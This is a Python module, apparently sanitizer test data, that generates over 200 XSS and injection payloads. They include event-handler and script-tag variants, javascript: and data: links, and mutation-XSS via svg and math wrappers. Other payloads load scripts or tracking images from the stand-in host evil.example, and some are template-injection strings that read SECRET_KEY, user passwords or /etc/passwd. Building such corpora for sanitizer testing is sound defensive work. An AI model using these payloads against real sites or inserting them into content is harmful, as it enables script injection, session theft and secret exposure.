"""What an attacker may write into a text: at least 200 payloads of our own making, by kind."""

from itertools import product

CALL = "alert(1)"
HOST = "evil.example"


def event_handlers():
    tags = [
        "img src=x",
        "svg",
        "body",
        "input autofocus",
        "details open",
        "video src=x",
        "audio src=x",
        "a href=#",
        "b",
    ]
    events = [
        "onerror",
        "onload",
        "onfocus",
        "ontoggle",
        "onclick",
        "onmouseover",
        "onpointerenter",
        "onanimationstart",
    ]
    for tag, event in product(tags, events):
        yield f"<{tag} {event}={CALL}>"


def scripts():
    for name in ("script", "SCRIPT", "ScRiPt", "script/", "script\n", "script\t", "script \x0c"):
        yield f"<{name}>{CALL}</script>"
    yield f"<script src=//{HOST}/x.js></script>"
    yield f"<script src=https://{HOST}/x.js></script>"
    yield f"<scr<script>ipt>{CALL}</scr</script>ipt>"
    yield f"<script x>{CALL}</script y>"
    yield f"<<script>{CALL}//<</script>"
    yield f"</p><script>{CALL}</script>"
    yield f"```\n</code></pre><script>{CALL}</script>\n```"
    yield f"`</code><script>{CALL}</script>`"
    yield f"<noscript><p title='</noscript><script>{CALL}</script>'>"


def schemes():
    names = [
        "javascript:", "JaVaScRiPt:",
        "java\tscript:", "java\nscript:", "java\x00script:", "\x01javascript:", " javascript:",
        "javascript&colon;", "&#106;avascript:", "&#x6A;avascript:", "jav&#x0A;ascript:", "javascript\\:", "vbscript:",
        "livescript:", "data:text/html,", "data:text/html;base64,", "data:image/svg+xml,",
        "file:///etc/passwd#", "blob:",
        "view-source:", "feed:javascript:", "http:", "ftp:", "ws:", "intent:", "//" + HOST + "/", "///" + HOST + "/",
        "\\\\" + HOST + "\\", "/\\" + HOST + "/", "https:\\\\" + HOST + "\\",
    ]  # fmt: skip
    for name in names:
        yield f"[press]({name}{CALL})"
        yield f"<a href='{name}{CALL}'>press</a>"
        yield f"[press][1]\n\n[1]: {name}{CALL}"
        yield f"<{name}{CALL}>"
        yield f"![x]({name}{CALL})"


LOADERS = [
    "img src", "iframe src", "object data", "embed src", "link rel=stylesheet href", "base href", "form action",
    "video poster", "source srcset", "use href", "image href", "input type=image src", "track src", "frame src",
    "meta http-equiv=refresh content",
]  # fmt: skip


def foreign_hosts():
    for tag in LOADERS:
        yield f"<{tag}=//{HOST}/x>"
        yield f"<{tag}='https://{HOST}/x'>"
    yield f"![dot](https://{HOST}/dot.gif)"
    yield f"![dot](//{HOST}/dot.gif)"
    yield f"<style>@import '//{HOST}/x.css';</style>"
    yield f"<div style='background:url(//{HOST}/x)'>x</div>"
    yield f'<p style="behavior:url(//{HOST})">x</p>'


def mutations():
    for wrapper in (
        "svg",
        "math",
        "svg><desc",
        "math><mtext",
        "svg><foreignObject",
        "math><annotation-xml encoding=text/html",
    ):
        for inner in ("style", "title", "textarea", "noscript", "xmp", "template", "mglyph", "iframe"):
            yield f"<{wrapper}><{inner}><img src=x onerror={CALL}></{inner}>"
    yield f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={CALL}&gt;">'
    yield f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={CALL}>"
    yield f'<svg></p><style><a id="</style><img src=1 onerror={CALL}>">'
    yield f"<a href='#x' title='`<img src=x onerror={CALL}>`'>x</a>"
    yield f"<!--><img src=x onerror={CALL}>-->"
    yield f"<![CDATA[><img src=x onerror={CALL}>]]>"
    yield f"<?xml-stylesheet href='javascript:{CALL}'?>"
    yield f"<svg><animate xlink:href=#a attributeName=href values=javascript:{CALL} /><a id=a><text>x</text></a></svg>"
    yield f"<svg><set attributeName=onmouseover to={CALL}></svg>"


TEMPLATES = [
    "{{ settings.SECRET_KEY }}", "{{ 7*7 }}", "{% load static %}", "{% include '/etc/passwd' %}", "${7*7}", "#{7*7}",
    "<%= 7*7 %>", "{{constructor.constructor('alert(1)')()}}", "{{request.user.password}}",
]  # fmt: skip


def templates():
    for text in TEMPLATES:
        yield text
        yield f"# {text}"
        yield f"[{text}](https://kunta.example/)"


def markdown_tricks():
    yield f"[a](<javascript:{CALL}>)"
    yield f"[a](javascript:{CALL} 'title')"
    yield f'[a](https://kunta.example/ "onmouseover={CALL}")'
    yield f"[a](https://kunta.example/'onmouseover='{CALL})"
    yield f'[a](https://kunta.example/"><script>{CALL}</script>)'
    yield f"| <script>{CALL}</script> | b |\n|---|---|\n| <img src=x onerror={CALL}> | d |"
    yield f"> <img src=x onerror={CALL}>"
    yield f"- <svg onload={CALL}>"
    yield f'``` "><img src=x onerror={CALL}>\ncode\n```'
    yield f"&lt;script&gt;{CALL}&lt;/script&gt;"
    yield f"\\<script>{CALL}\\</script>"
    yield f"\u2028<script>{CALL}</script>"
    yield f"＜script＞{CALL}＜/script＞"
    yield f"<img src=x onerror\x00={CALL}>"


PAYLOADS = [
    *event_handlers(), *scripts(), *schemes(), *foreign_hosts(), *mutations(), *templates(), *markdown_tricks(),
]  # fmt: skip
